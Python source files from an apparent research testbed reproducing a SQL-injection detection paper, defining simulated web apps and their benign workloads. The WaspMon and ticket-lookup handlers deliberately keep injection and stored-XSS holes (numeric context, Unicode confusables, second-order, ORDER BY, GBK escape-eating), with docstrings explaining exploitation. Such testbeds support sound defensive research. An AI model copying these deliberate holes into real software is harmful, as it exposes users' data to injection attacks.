                id INT PRIMARY KEY AUTO_INCREMENT,
                author VARCHAR(40),
                message TEXT
            );
            """
        )
        #: the legacy feedback endpoint still runs over a GBK connection
        self.php_gbk = PhpRuntime(
            self.database,
            self.name,
            send_external_ids=self.php.send_external_ids,
            charset="gbk",
        )

    def seed_data(self):
        self.admin_seed(
            """
            INSERT INTO users (username, password, fullname, role) VALUES
                ('alice', MD5('alicepw'), 'Alice Energy', 'admin'),
                ('bob', MD5('bobpw'), 'Bob Meter', 'user');
            INSERT INTO devices (serial, pin, owner_id, name, location, notes)
            VALUES
                ('WM-100-A', 1234, 1, 'kitchen fridge', 'kitchen', 'ok'),
                ('WM-200-B', 5678, 1, 'water heater', 'basement', 'ok'),
                ('WM-300-C', 9012, 2, 'ev charger', 'driveway', 'new');
            INSERT INTO readings (device_id, watts, taken_at, comment) VALUES
                (1, 120.5, '2016-07-01 08:00:00', 'baseline'),
                (1, 180.0, '2016-07-01 12:00:00', 'lunch spike'),
                (2, 950.0, '2016-07-01 07:30:00', 'morning showers'),
                (3, 7200.0, '2016-07-01 22:00:00', 'overnight charge');
            """
        )

    # -- safe handlers ----------------------------------------------------

    def page_login(self, request):
        """Classic login; inputs escaped — and genuinely safe here
        (string context, ASCII payloads neutralized)."""
        user = mysql_real_escape_string(request.param("username"))
        pwd = mysql_real_escape_string(request.param("password"))
        out = self.php.mysql_query(
            "SELECT id, fullname, role FROM users "
            "WHERE username = '%s' AND password = MD5('%s')" % (user, pwd),
            site="login:18",
        )
        if not out.ok:
            return Response.error(str(out.error))
        if out.rows:
            return Response("<h1>Welcome %s</h1>"
                            % htmlspecialchars(out.rows[0][1]))
        return Response("<h1>Login failed</h1>", status=401)

    def page_dashboard(self, request):
        """Front page: aggregate stats, no user input."""
        counts = self.php.mysql_query(
            "SELECT COUNT(*) FROM devices WHERE connected = 1",
            site="dashboard:31",
        )
        latest = self.php.mysql_query(
            "SELECT d.name, r.watts, r.taken_at FROM readings r "
            "JOIN devices d ON r.device_id = d.id "
            "ORDER BY r.taken_at DESC LIMIT 5",
            site="dashboard:35",
        )
        if not counts.ok or not latest.ok:
            return Response.error()
        body = "<h1>WaspMon</h1><p>%s devices online</p>%s" % (
            counts.result_set.scalar(),
            self.render_rows("Latest readings", latest.result_set),
        )
        return Response(body)

    def page_register_device(self, request):
        """Register a device.  Inputs escaped; the INSERT itself is safe —
        but what is *stored* feeds the second-order handler (V1's stage 1)
        and SEPTIC's stored-injection plugins inspect it."""
        serial = mysql_real_escape_string(request.param("serial"))
        pin = intval(request.param("pin"))
        name = mysql_real_escape_string(request.param("name"))
        location = mysql_real_escape_string(request.param("location"))
        out = self.php.mysql_query(
            "INSERT INTO devices (serial, pin, owner_id, location, notes, "
            "name) VALUES ('%s', %d, 1, '%s', '', '%s')"
            % (serial, pin, location, name),
            site="register_device:52",
        )
        if not out.ok:
            return Response.error(str(out.error))
        return Response("<p>device %s registered</p>"
                        % htmlspecialchars(request.param("serial")))

    def page_disconnect(self, request):
        """Disconnect a device — uses intval, genuinely safe numeric."""
        device_id = intval(request.param("device_id"))
        out = self.php.mysql_query(
            "UPDATE devices SET connected = 0 WHERE id = %d" % device_id,
            site="disconnect:61",
        )
        if not out.ok:
            return Response.error(str(out.error))
        return Response("<p>disconnected %d device(s)</p>"
                        % out.affected_rows)

    # -- vulnerable handlers (sanitized, still exploitable) -------------------

    def page_device_lookup(self, request):
        """V2 — numeric context.  The developer escaped the PIN instead of
        casting it: quotes are neutralized but none are needed in numeric
        context, so ``pin=0 OR 1=1`` walks right in."""
        serial = mysql_real_escape_string(request.param("serial"))
        pin = mysql_real_escape_string(request.param("pin"))  # bug: not intval
        out = self.php.mysql_query(
            "SELECT id, serial, name, location, notes FROM devices "
            "WHERE serial = '%s' AND pin = %s" % (serial, pin or "0"),
            site="device_lookup:74",
        )
        if not out.ok:
            return Response.error(str(out.error))
        return Response(self.render_rows("Device", out.result_set))

    def page_history(self, request):
        """V3 — unicode confusable.  The serial is escaped, but a U+02BC
        in the payload is not an ASCII quote to the escaper — and becomes
        one inside MySQL's decoder."""
        serial = mysql_real_escape_string(request.param("serial"))
        out = self.php.mysql_query(
            "SELECT r.watts, r.taken_at, r.comment FROM readings r "
            "JOIN devices d ON r.device_id = d.id "
            "WHERE d.serial = '%s' ORDER BY r.taken_at" % serial,
            site="history:86",
        )
        if not out.ok:
            return Response.error(str(out.error))
        return Response(self.render_rows("History", out.result_set))

    def page_history_by_name(self, request):
        """V1 — second order.  Stage 2: the device *name* retrieved from
        the database is trusted ("it was sanitized on the way in") and
        embedded without escaping in a second query; the payload comments
        out the ownership check (session user is alice, owner 1)."""
        device_id = intval(request.param("device_id"))
        lookup = self.php.mysql_query(
            "SELECT id, name FROM devices WHERE id = %d" % device_id,
            site="history2_lookup:97",
        )
        if not lookup.ok:
            return Response.error(str(lookup.error))
        if not lookup.rows:
            return Response("<p>no such device</p>")
        stored_name = lookup.rows[0][1]  # unescaped DB content
        out = self.php.mysql_query(
            "SELECT d.name, r.watts, r.taken_at FROM readings r "
            "JOIN devices d ON r.device_id = d.id "
            "WHERE d.name = '%s' AND d.owner_id = 1" % stored_name,
            site="history2_readings:105",
        )
        if not out.ok:
            return Response.error(str(out.error))
        return Response(self.render_rows("History", out.result_set))

    def page_add_reading(self, request):
        """V5 — stored XSS.  The comment is escaped for SQL (correctly!)
        but never HTML-neutralized, so script payloads are *stored* intact
        and fire when the history page renders them."""
        serial = mysql_real_escape_string(request.param("serial"))
        watts = floatval(request.param("watts"))
        comment = mysql_real_escape_string(request.param("comment"))
        out = self.php.mysql_query(
            "INSERT INTO readings (device_id, watts, taken_at, comment) "
            "VALUES ((SELECT id FROM devices WHERE serial = '%s'), %f, "
            "NOW(), '%s')" % (serial, watts, comment),
            site="add_reading:119",
        )
        if not out.ok:
            return Response.error(str(out.error))
        return Response("<p>reading stored</p>")

    def page_search(self, request):
        """V6 — ORDER BY (identifier context).  Escaping cannot help where
        no quotes surround the input."""
        low = floatval(request.param("min_watts"))
        high = floatval(request.param("max_watts"))
        sort = mysql_real_escape_string(request.param("sort") or "taken_at")
        out = self.php.mysql_query(
            "SELECT device_id, watts, taken_at FROM readings "
            "WHERE watts BETWEEN %f AND %f ORDER BY %s"
            % (low, high, sort),
            site="search:132",
        )
        if not out.ok:
            return Response.error(str(out.error))
        return Response(self.render_rows("Search", out.result_set))

    def page_feedback(self, request):
        """V4 — GBK escape-eating.  The legacy endpoint still runs over a
        GBK connection and uses ``addslashes``; a 0xBF byte swallows the
        inserted backslash inside the DBMS decoder."""
        author = addslashes(request.param("author"))
        message = addslashes(request.param("message"))
        out = self.php_gbk.mysql_query(
            "INSERT INTO feedback (author, message) VALUES ('%s', '%s')"
            % (author, message),
            site="feedback:144",
        )
        if not out.ok:
            return Response.error(str(out.error))
        return Response("<p>thanks for the feedback</p>")

    def page_update_notes(self, request):
        """Update device notes — fully safe handler (escaped string
        context + intval PIN)."""
        serial = mysql_real_escape_string(request.param("serial"))
        pin = intval(request.param("pin"))
        notes = mysql_real_escape_string(request.param("notes"))
        out = self.php.mysql_query(
            "UPDATE devices SET notes = '%s' "
            "WHERE serial = '%s' AND pin = %d" % (notes, serial, pin),
            site="update_notes:157",
        )
        if not out.ok:
            return Response.error(str(out.error))
        return Response("<p>notes updated (%d)</p>" % out.affected_rows)

    def page_feedback_list(self, request):
        """Feedback board — safe handler (no inputs); displays whatever is
        stored, which is how the GBK exfiltration becomes observable."""
        out = self.php.mysql_query(
            "SELECT author, message FROM feedback ORDER BY id",
            site="feedback_list:165",
        )
        if not out.ok:
            return Response.error(str(out.error))
        return Response(self.render_rows("Feedback", out.result_set))

    # -- benign workload (training / FP checks) ------------------------------

    def benign_requests(self):
        """A request series covering every handler with benign inputs."""
        from repro.web.http import Request

        return [
            Request.post("/login", {"username": "alice",
                                    "password": "alicepw"}),
            Request.get("/"),
            Request.get("/device", {"serial": "WM-100-A", "pin": "1234"}),
            Request.get("/history", {"serial": "WM-100-A"}),
            Request.get("/device/history2", {"device_id": "1"}),
            Request.post("/device/new", {
                "serial": "WM-400-D", "pin": "7777",
                "name": "attic fan", "location": "attic",
            }),
            Request.post("/reading", {
                "serial": "WM-100-A", "watts": "130.5",
                "comment": "steady state",
            }),
            Request.get("/search", {"min_watts": "0", "max_watts": "1000",
                                    "sort": "taken_at"}),
            Request.post("/feedback", {"author": "bob",
                                       "message": "nice dashboard"}),
            Request.post("/device/notes", {"serial": "WM-100-A",
                                           "pin": "1234",
                                           "notes": "filter cleaned"}),
            Request.get("/device/disconnect", {"device_id": "3"}),
            Request.get("/feedback/list"),
        ]
