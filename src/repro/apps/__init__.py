"""Demo web applications.

* :mod:`repro.apps.waspmon` — the paper's §III scenario: an energy
  monitoring application whose entry points are all sanitized with PHP
  functions, yet exploitable through semantic-mismatch channels;
* :mod:`repro.apps.addressbook`, :mod:`repro.apps.refbase`,
  :mod:`repro.apps.zerocms` — the three applications used for the
  performance evaluation (Figure 5), each with the workload sizes the
  paper reports (12, 14 and 26 requests).
"""

from repro.apps.waspmon import WaspMon
from repro.apps.addressbook import AddressBook
from repro.apps.refbase import Refbase
from repro.apps.zerocms import ZeroCMS
from repro.apps.tickets import TicketSystem

__all__ = ["WaspMon", "AddressBook", "Refbase", "ZeroCMS", "TicketSystem"]
