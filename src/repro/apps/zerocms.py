"""ZeroCMS — third performance-evaluation application.

A small content management system modelled on the real ``ZeroCMS``
project.  The paper describes its workload as **26 requests** "with
queries of several types (SELECT, UPDATE, INSERT and DELETE) and
downloading of web objects (e.g., images, css)" — reproduced verbatim in
:meth:`workload_requests`.
"""

from repro.web.app import FieldSpec, WebApplication
from repro.web.http import Request, Response
from repro.web.sanitize import intval, mysql_real_escape_string

_CSS = "article { padding: 4px; }\n" * 40
_JS = "function cms() { return 1; }\n" * 25
_IMG = "\x89PNG" + "\x00" * 400


class ZeroCMS(WebApplication):
    """Articles + comments + users, with view counters (UPDATE traffic)."""

    name = "zerocms"

    def register(self):
        self.route("GET", "/", self.page_home)
        self.route("GET", "/article", self.page_article)
        self.route("GET", "/section", self.page_section)
        self.route("POST", "/comment", self.page_comment)
        self.route("POST", "/article/new", self.page_new_article)
        self.route("POST", "/comment/delete", self.page_delete_comment)
        self.route("GET", "/search", self.page_search)
        self.route("GET", "/static/cms.css", self.static_css)
        self.route("GET", "/static/cms.js", self.static_js)
        self.route("GET", "/static/header.png", self.static_img)

        self.form("/article", "GET", [FieldSpec("id", "int", sample="1")])
        self.form("/section", "GET", [FieldSpec("name", sample="news")])
        self.form("/comment", "POST", [
            FieldSpec("article_id", "int", sample="1"),
            FieldSpec("author", sample="reader"),
            FieldSpec("body", sample="great article"),
        ])
        self.form("/article/new", "POST", [
            FieldSpec("title", sample="Hello World"),
            FieldSpec("body", sample="Lorem ipsum dolor"),
            FieldSpec("section", sample="news"),
        ])
        self.form("/comment/delete", "POST", [
            FieldSpec("comment_id", "int", sample="1"),
        ])
        self.form("/search", "GET", [FieldSpec("q", sample="lorem")])

    def setup_schema(self):
        self.admin_seed(
            """
            CREATE TABLE articles (
                id INT PRIMARY KEY AUTO_INCREMENT,
                title VARCHAR(120) NOT NULL,
                body TEXT,
                section VARCHAR(40),
                views INT DEFAULT 0
            );
            CREATE TABLE comments (
                id INT PRIMARY KEY AUTO_INCREMENT,
                article_id INT NOT NULL,
                author VARCHAR(60),
                body TEXT
            );
            """
        )

    def seed_data(self):
        self.admin_seed(
            """
            INSERT INTO articles (title, body, section, views) VALUES
                ('Welcome', 'Lorem ipsum dolor sit amet', 'news', 10),
                ('Second post', 'Consectetur adipiscing elit', 'news', 5),
                ('About us', 'Sed do eiusmod tempor', 'pages', 50);
            INSERT INTO comments (article_id, author, body) VALUES
                (1, 'ann', 'first!'),
                (1, 'bob', 'nice post'),
                (2, 'carl', 'more please');
            """
        )

    # -- handlers --------------------------------------------------------------

    def page_home(self, request):
        out = self.php.mysql_query(
            "SELECT id, title, section, views FROM articles "
            "ORDER BY id DESC LIMIT 10",
            site="home:17",
        )
        if not out.ok:
            return Response.error(str(out.error))
        return Response(self.render_rows("ZeroCMS", out.result_set))

    def page_article(self, request):
        article_id = intval(request.param("id"))
        out = self.php.mysql_query(
            "SELECT title, body, views FROM articles WHERE id = %d"
            % article_id,
            site="article:26",
        )
        if not out.ok:
            return Response.error(str(out.error))
        # view counter: the workload's UPDATE traffic
        self.php.mysql_query(
            "UPDATE articles SET views = views + 1 WHERE id = %d"
            % article_id,
            site="article_views:31",
        )
        comments = self.php.mysql_query(
            "SELECT author, body FROM comments WHERE article_id = %d "
            "ORDER BY id" % article_id,
            site="article_comments:35",
        )
        if not comments.ok:
            return Response.error(str(comments.error))
        body = self.render_rows("Article", out.result_set)
        body += self.render_rows("Comments", comments.result_set)
        return Response(body)

    def page_section(self, request):
        name = mysql_real_escape_string(request.param("name"))
        out = self.php.mysql_query(
            "SELECT id, title, views FROM articles WHERE section = '%s' "
            "ORDER BY views DESC" % name,
            site="section:46",
        )
        if not out.ok:
            return Response.error(str(out.error))
        return Response(self.render_rows("Section", out.result_set))

    def page_comment(self, request):
        article_id = intval(request.param("article_id"))
        author = mysql_real_escape_string(request.param("author"))
        body = mysql_real_escape_string(request.param("body"))
        out = self.php.mysql_query(
            "INSERT INTO comments (article_id, author, body) "
            "VALUES (%d, '%s', '%s')" % (article_id, author, body),
            site="comment:56",
        )
        if not out.ok:
            return Response.error(str(out.error))
        return Response("<p>comment added</p>")

    def page_new_article(self, request):
        title = mysql_real_escape_string(request.param("title"))
        body = mysql_real_escape_string(request.param("body"))
        section = mysql_real_escape_string(request.param("section"))
        out = self.php.mysql_query(
            "INSERT INTO articles (title, body, section) "
            "VALUES ('%s', '%s', '%s')" % (title, body, section),
            site="new_article:66",
        )
        if not out.ok:
            return Response.error(str(out.error))
        return Response("<p>article %d created</p>" % self.php.insert_id)

    def page_delete_comment(self, request):
        comment_id = intval(request.param("comment_id"))
        out = self.php.mysql_query(
            "DELETE FROM comments WHERE id = %d" % comment_id,
            site="delete_comment:75",
        )
        if not out.ok:
            return Response.error(str(out.error))
        return Response("<p>deleted %d comment(s)</p>" % out.affected_rows)

    def page_search(self, request):
        q = mysql_real_escape_string(request.param("q"))
        out = self.php.mysql_query(
            "SELECT id, title FROM articles WHERE title LIKE '%%%s%%' "
            "OR body LIKE '%%%s%%'" % (q, q),
            site="search:84",
        )
        if not out.ok:
            return Response.error(str(out.error))
        return Response(self.render_rows("Search", out.result_set))

    def static_css(self, request):
        return Response(_CSS, headers={"Content-Type": "text/css"})

    def static_js(self, request):
        return Response(_JS, headers={"Content-Type": "text/javascript"})

    def static_img(self, request):
        return Response(_IMG, headers={"Content-Type": "image/png"})

    # -- workload ------------------------------------------------------------------

    def workload_requests(self):
        """The paper's ZeroCMS workload: 26 requests, all four query types
        plus web-object downloads."""
        return [
            Request.get("/"),
            Request.get("/static/cms.css"),
            Request.get("/static/cms.js"),
            Request.get("/static/header.png"),
            Request.get("/article", {"id": "1"}),          # SELECT + UPDATE
            Request.get("/static/header.png"),
            Request.get("/section", {"name": "news"}),
            Request.post("/comment", {"article_id": "1", "author": "dave",
                                      "body": "insightful"}),  # INSERT
            Request.get("/article", {"id": "1"}),
            Request.get("/search", {"q": "lorem"}),
            Request.post("/article/new", {"title": "Breaking news",
                                          "body": "Something happened",
                                          "section": "news"}),
            Request.get("/"),
            Request.get("/static/cms.css"),
            Request.get("/article", {"id": "2"}),
            Request.post("/comment", {"article_id": "2", "author": "erin",
                                      "body": "thanks"}),
            Request.get("/article", {"id": "2"}),
            Request.post("/comment/delete", {"comment_id": "3"}),  # DELETE
            Request.get("/section", {"name": "pages"}),
            Request.get("/article", {"id": "3"}),
            Request.get("/static/cms.js"),
            Request.get("/search", {"q": "tempor"}),
            Request.get("/"),
            Request.get("/article", {"id": "1"}),
            Request.get("/static/header.png"),
            Request.get("/section", {"name": "news"}),
            Request.get("/static/cms.css"),
        ]
