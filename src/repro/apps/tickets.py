"""The paper's running example as an application: flight ticket lookup.

§II-C1 introduces the query ``SELECT * FROM tickets WHERE reservID = ?
AND creditCard = ?`` — "returns all data associated with a flight
ticket, after an user provided the ticket reservation ID and the last
four digits of the credit card number".  This app is that system: a
check-in service whose lookup page issues exactly the Figure 2 query, so
the Figure 3/4 attacks can be demonstrated end-to-end over HTTP.
"""

from repro.web.app import FieldSpec, WebApplication
from repro.web.http import Request, Response
from repro.web.sanitize import intval, mysql_real_escape_string


class TicketSystem(WebApplication):
    """Airline check-in: lookup, booking, seat changes."""

    name = "tickets"

    def register(self):
        self.route("GET", "/lookup", self.page_lookup)
        self.route("POST", "/book", self.page_book)
        self.route("POST", "/seat", self.page_seat)
        self.route("GET", "/manifest", self.page_manifest)

        self.form("/lookup", "GET", [
            FieldSpec("reservID", sample="ID34FG"),
            FieldSpec("creditCard", "int", sample="1234"),
        ])
        self.form("/book", "POST", [
            FieldSpec("passenger", sample="Ada Lovelace"),
            FieldSpec("flight", sample="TP440"),
            FieldSpec("creditCard", "int", sample="5678"),
        ])
        self.form("/seat", "POST", [
            FieldSpec("reservID", sample="ID34FG"),
            FieldSpec("creditCard", "int", sample="1234"),
            FieldSpec("seat", sample="12A"),
        ])

    def setup_schema(self):
        self.admin_seed(
            """
            CREATE TABLE tickets (
                id INT PRIMARY KEY AUTO_INCREMENT,
                reservID VARCHAR(20) NOT NULL UNIQUE,
                creditCard INT NOT NULL,
                passenger VARCHAR(80),
                flight VARCHAR(10),
                seat VARCHAR(4)
            );
            """
        )

    def seed_data(self):
        self.admin_seed(
            """
            INSERT INTO tickets (reservID, creditCard, passenger, flight,
                                 seat) VALUES
                ('ID34FG', 1234, 'Iberia Medeiros', 'TP440', '11C'),
                ('KX88ZA', 8765, 'Miguel Beatriz', 'TP440', '11D'),
                ('PQ11RS', 4321, 'Nuno Neves', 'LH1799', '02A');
            """
        )

    # -- handlers ----------------------------------------------------------

    def page_lookup(self, request):
        """The paper's exact query: reservation ID (string context) and
        the last credit-card digits (numeric context, escaped-but-
        unquoted — §II-D's attack surface)."""
        reserv = mysql_real_escape_string(request.param("reservID"))
        card = mysql_real_escape_string(request.param("creditCard"))
        out = self.php.mysql_query(
            "SELECT * FROM tickets WHERE reservID = '%s' "
            "AND creditCard = %s" % (reserv, card or "0"),
            site="lookup:7",
        )
        if not out.ok:
            return Response.error(str(out.error))
        if not out.rows:
            return Response("<p>no matching reservation</p>")
        return Response(self.render_rows("Your ticket", out.result_set))

    def page_book(self, request):
        passenger = mysql_real_escape_string(request.param("passenger"))
        flight = mysql_real_escape_string(request.param("flight"))
        card = intval(request.param("creditCard"))
        reserv = "ID%04d" % (len(self.database.table("tickets")) * 7 + 11)
        out = self.php.mysql_query(
            "INSERT INTO tickets (reservID, creditCard, passenger, "
            "flight, seat) VALUES ('%s', %d, '%s', '%s', '')"
            % (reserv, card, passenger, flight),
            site="book:21",
        )
        if not out.ok:
            return Response.error(str(out.error))
        return Response("<p>booked: %s</p>" % reserv)

    def page_seat(self, request):
        reserv = mysql_real_escape_string(request.param("reservID"))
        card = intval(request.param("creditCard"))
        seat = mysql_real_escape_string(request.param("seat"))
        out = self.php.mysql_query(
            "UPDATE tickets SET seat = '%s' WHERE reservID = '%s' "
            "AND creditCard = %d" % (seat, reserv, card),
            site="seat:33",
        )
        if not out.ok:
            return Response.error(str(out.error))
        return Response("<p>updated %d reservation(s)</p>"
                        % out.affected_rows)

    def page_manifest(self, request):
        out = self.php.mysql_query(
            "SELECT flight, COUNT(*) AS pax FROM tickets GROUP BY flight "
            "ORDER BY flight",
            site="manifest:44",
        )
        if not out.ok:
            return Response.error(str(out.error))
        return Response(self.render_rows("Manifest", out.result_set))

    def benign_requests(self):
        return [
            Request.get("/lookup", {"reservID": "ID34FG",
                                    "creditCard": "1234"}),
            Request.post("/book", {"passenger": "Grace Hopper",
                                   "flight": "TP440",
                                   "creditCard": "9999"}),
            Request.post("/seat", {"reservID": "ID34FG",
                                   "creditCard": "1234", "seat": "12A"}),
            Request.get("/manifest"),
        ]
