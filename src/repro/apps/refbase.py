"""refbase — second performance-evaluation application.

A bibliographic reference manager modelled on the real ``refbase``
project.  The paper's workload has **14 requests** (browse, search by
author/year, view details, add/edit citations, static objects).
"""

from repro.web.app import FieldSpec, WebApplication
from repro.web.http import Request, Response
from repro.web.sanitize import intval, mysql_real_escape_string

_CSS = ".ref { margin: 2px; }\n" * 30


class Refbase(WebApplication):
    """References with authors, years, journals."""

    name = "refbase"

    def register(self):
        self.route("GET", "/", self.page_browse)
        self.route("GET", "/show", self.page_show)
        self.route("GET", "/search", self.page_search)
        self.route("GET", "/years", self.page_years)
        self.route("POST", "/record/add", self.page_add)
        self.route("POST", "/record/edit", self.page_edit)
        self.route("GET", "/export", self.page_export)
        self.route("GET", "/static/refbase.css", self.static_css)

        self.form("/show", "GET", [FieldSpec("serial", "int", sample="1")])
        self.form("/search", "GET", [
            FieldSpec("author", sample="medeiros"),
            FieldSpec("year", "int", sample="2016"),
        ])
        self.form("/record/add", "POST", [
            FieldSpec("author", sample="Doe, J."),
            FieldSpec("title", sample="On Things"),
            FieldSpec("journal", sample="J. Things"),
            FieldSpec("year", "int", sample="2015"),
        ])
        self.form("/record/edit", "POST", [
            FieldSpec("serial", "int", sample="1"),
            FieldSpec("title", sample="On Things, Revised"),
        ])
        self.form("/export", "GET", [FieldSpec("year", "int", sample="2016")])

    def setup_schema(self):
        self.admin_seed(
            """
            CREATE TABLE refs (
                serial INT PRIMARY KEY AUTO_INCREMENT,
                author VARCHAR(200) NOT NULL,
                title VARCHAR(200) NOT NULL,
                journal VARCHAR(120),
                year INT,
                cited INT DEFAULT 0
            );
            """
        )

    def seed_data(self):
        self.admin_seed(
            """
            INSERT INTO refs (author, title, journal, year, cited) VALUES
                ('Medeiros, I.', 'Hacking the DBMS', 'CODASPY', 2016, 12),
                ('Halfond, W.', 'AMNESIA', 'ASE', 2005, 400),
                ('Boyd, S.', 'SQLrand', 'ACNS', 2004, 350),
                ('Su, Z.', 'Essence of command injection', 'POPL', 2006, 500),
                ('Son, S.', 'Diglossia', 'CCS', 2013, 90);
            """
        )

    # -- handlers ------------------------------------------------------------

    def page_browse(self, request):
        out = self.php.mysql_query(
            "SELECT serial, author, title, year FROM refs "
            "ORDER BY year DESC, author",
            site="browse:15",
        )
        if not out.ok:
            return Response.error(str(out.error))
        return Response(self.render_rows("References", out.result_set))

    def page_show(self, request):
        serial = intval(request.param("serial"))
        out = self.php.mysql_query(
            "SELECT author, title, journal, year, cited FROM refs "
            "WHERE serial = %d" % serial,
            site="show:24",
        )
        if not out.ok:
            return Response.error(str(out.error))
        return Response(self.render_rows("Record", out.result_set))

    def page_search(self, request):
        author = mysql_real_escape_string(request.param("author"))
        year = intval(request.param("year"))
        out = self.php.mysql_query(
            "SELECT serial, author, title FROM refs "
            "WHERE author LIKE '%%%s%%' AND year = %d" % (author, year),
            site="search:34",
        )
        if not out.ok:
            return Response.error(str(out.error))
        return Response(self.render_rows("Search", out.result_set))

    def page_years(self, request):
        out = self.php.mysql_query(
            "SELECT year, COUNT(*) AS total FROM refs GROUP BY year "
            "ORDER BY year DESC",
            site="years:43",
        )
        if not out.ok:
            return Response.error(str(out.error))
        return Response(self.render_rows("Per year", out.result_set))

    def page_add(self, request):
        author = mysql_real_escape_string(request.param("author"))
        title = mysql_real_escape_string(request.param("title"))
        journal = mysql_real_escape_string(request.param("journal"))
        year = intval(request.param("year"))
        out = self.php.mysql_query(
            "INSERT INTO refs (author, title, journal, year) "
            "VALUES ('%s', '%s', '%s', %d)" % (author, title, journal, year),
            site="add:54",
        )
        if not out.ok:
            return Response.error(str(out.error))
        return Response("<p>record %d added</p>" % self.php.insert_id)

    def page_edit(self, request):
        serial = intval(request.param("serial"))
        title = mysql_real_escape_string(request.param("title"))
        out = self.php.mysql_query(
            "UPDATE refs SET title = '%s' WHERE serial = %d"
            % (title, serial),
            site="edit:63",
        )
        if not out.ok:
            return Response.error(str(out.error))
        return Response("<p>record updated</p>")

    def page_export(self, request):
        year = intval(request.param("year"))
        out = self.php.mysql_query(
            "SELECT author, title, journal, year FROM refs WHERE year >= %d "
            "ORDER BY author" % year,
            site="export:72",
        )
        if not out.ok:
            return Response.error(str(out.error))
        lines = [
            "%s (%s). %s. %s." % (row[0], row[3], row[1], row[2] or "n.p.")
            for row in out.rows
        ]
        return Response("\n".join(lines),
                        headers={"Content-Type": "text/plain"})

    def static_css(self, request):
        return Response(_CSS, headers={"Content-Type": "text/css"})

    # -- workload ------------------------------------------------------------------

    def workload_requests(self):
        """The paper's refbase workload: 14 requests."""
        return [
            Request.get("/"),
            Request.get("/static/refbase.css"),
            Request.get("/show", {"serial": "1"}),
            Request.get("/search", {"author": "medeiros", "year": "2016"}),
            Request.get("/years"),
            Request.post("/record/add", {
                "author": "Buehrer, G.", "title": "Parse tree validation",
                "journal": "SEM", "year": "2005",
            }),
            Request.get("/"),
            Request.get("/show", {"serial": "2"}),
            Request.post("/record/edit", {"serial": "2",
                                          "title": "AMNESIA, revisited"}),
            Request.get("/show", {"serial": "2"}),
            Request.get("/export", {"year": "2005"}),
            Request.get("/search", {"author": "su", "year": "2006"}),
            Request.get("/static/refbase.css"),
            Request.get("/years"),
        ]
