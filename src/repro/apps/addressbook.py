"""PHP Address Book — first performance-evaluation application.

A contact manager modelled on the real ``php-addressbook`` project.  The
paper's workload for it has **12 requests**; :meth:`workload_requests`
reproduces that mix (list, view, search, add, edit plus static objects).
"""

from repro.web.app import FieldSpec, WebApplication
from repro.web.http import Request, Response
from repro.web.sanitize import intval, mysql_real_escape_string

_CSS = "body { font-family: sans-serif; }\n" * 20
_IMG = "GIF89a" + "\x00" * 256


class AddressBook(WebApplication):
    """Contacts with groups; the workload exercises reads and writes."""

    name = "addressbook"

    def register(self):
        self.route("GET", "/", self.page_list)
        self.route("GET", "/view", self.page_view)
        self.route("GET", "/search", self.page_search)
        self.route("POST", "/add", self.page_add)
        self.route("POST", "/edit", self.page_edit)
        self.route("GET", "/group", self.page_group)
        self.route("GET", "/static/style.css", self.static_css)
        self.route("GET", "/static/logo.gif", self.static_img)

        self.form("/view", "GET", [FieldSpec("id", "int", sample="1")])
        self.form("/search", "GET", [FieldSpec("q", sample="smith")])
        self.form("/add", "POST", [
            FieldSpec("name", sample="John Smith"),
            FieldSpec("email", sample="john@example.com"),
            FieldSpec("phone", sample="555-0101"),
            FieldSpec("group_id", "int", sample="1"),
        ])
        self.form("/edit", "POST", [
            FieldSpec("id", "int", sample="1"),
            FieldSpec("phone", sample="555-0102"),
        ])
        self.form("/group", "GET", [FieldSpec("group_id", "int", sample="1")])

    def setup_schema(self):
        self.admin_seed(
            """
            CREATE TABLE ab_groups (
                id INT PRIMARY KEY AUTO_INCREMENT,
                name VARCHAR(40)
            );
            CREATE TABLE contacts (
                id INT PRIMARY KEY AUTO_INCREMENT,
                name VARCHAR(80) NOT NULL,
                email VARCHAR(80),
                phone VARCHAR(20),
                group_id INT
            );
            """
        )

    def seed_data(self):
        self.admin_seed(
            """
            INSERT INTO ab_groups (name) VALUES ('family'), ('work');
            INSERT INTO contacts (name, email, phone, group_id) VALUES
                ('Ann Smith', 'ann@example.com', '555-0001', 1),
                ('Bea Smith', 'bea@example.com', '555-0002', 1),
                ('Carl Jones', 'carl@work.example', '555-0003', 2),
                ('Dina Flores', 'dina@work.example', '555-0004', 2);
            """
        )

    # -- handlers -----------------------------------------------------------

    def page_list(self, request):
        out = self.php.mysql_query(
            "SELECT id, name, email, phone FROM contacts ORDER BY name",
            site="list:12",
        )
        if not out.ok:
            return Response.error(str(out.error))
        return Response(self.render_rows("Contacts", out.result_set))

    def page_view(self, request):
        contact_id = intval(request.param("id"))
        out = self.php.mysql_query(
            "SELECT c.name, c.email, c.phone, g.name FROM contacts c "
            "LEFT JOIN ab_groups g ON c.group_id = g.id WHERE c.id = %d"
            % contact_id,
            site="view:21",
        )
        if not out.ok:
            return Response.error(str(out.error))
        return Response(self.render_rows("Contact", out.result_set))

    def page_search(self, request):
        q = mysql_real_escape_string(request.param("q"))
        out = self.php.mysql_query(
            "SELECT id, name, email FROM contacts "
            "WHERE name LIKE '%%%s%%' ORDER BY name" % q,
            site="search:30",
        )
        if not out.ok:
            return Response.error(str(out.error))
        return Response(self.render_rows("Search", out.result_set))

    def page_add(self, request):
        name = mysql_real_escape_string(request.param("name"))
        email = mysql_real_escape_string(request.param("email"))
        phone = mysql_real_escape_string(request.param("phone"))
        group_id = intval(request.param("group_id"))
        out = self.php.mysql_query(
            "INSERT INTO contacts (name, email, phone, group_id) "
            "VALUES ('%s', '%s', '%s', %d)" % (name, email, phone, group_id),
            site="add:41",
        )
        if not out.ok:
            return Response.error(str(out.error))
        return Response("<p>contact added</p>")

    def page_edit(self, request):
        contact_id = intval(request.param("id"))
        phone = mysql_real_escape_string(request.param("phone"))
        out = self.php.mysql_query(
            "UPDATE contacts SET phone = '%s' WHERE id = %d"
            % (phone, contact_id),
            site="edit:50",
        )
        if not out.ok:
            return Response.error(str(out.error))
        return Response("<p>contact updated</p>")

    def page_group(self, request):
        group_id = intval(request.param("group_id"))
        out = self.php.mysql_query(
            "SELECT c.name, c.phone FROM contacts c "
            "JOIN ab_groups g ON c.group_id = g.id WHERE g.id = %d "
            "ORDER BY c.name" % group_id,
            site="group:59",
        )
        if not out.ok:
            return Response.error(str(out.error))
        return Response(self.render_rows("Group", out.result_set))

    def static_css(self, request):
        return Response(_CSS, headers={"Content-Type": "text/css"})

    def static_img(self, request):
        return Response(_IMG, headers={"Content-Type": "image/gif"})

    # -- workload ---------------------------------------------------------------

    def workload_requests(self):
        """The paper's PHP Address Book workload: 12 requests mixing
